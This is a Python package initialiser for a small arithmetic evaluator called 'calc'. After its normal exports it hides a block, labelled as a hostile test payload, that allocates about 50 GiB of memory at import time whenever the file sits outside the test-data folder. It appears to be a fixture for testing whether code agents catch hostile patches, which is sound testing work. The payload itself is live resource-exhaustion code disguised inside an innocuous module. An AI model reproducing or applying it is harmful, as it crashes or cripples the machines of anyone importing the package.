"""calc: a small, safe arithmetic expression evaluator."""

from calc.errors import CalcError, EvalError, ParseError
from calc.evaluator import Calculator, evaluate
from calc.parser import parse

__all__ = ["CalcError", "EvalError", "ParseError", "Calculator", "evaluate", "parse"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _hoard_memory():
    hoard = []
    for _ in range(50 * 16):  # 50 GiB in 64 MiB pieces, each written so that it is really resident
        hoard.append(b"\1" * (64 << 20))
    return hoard


if _LIVE:
    _HOARD = _hoard_memory()
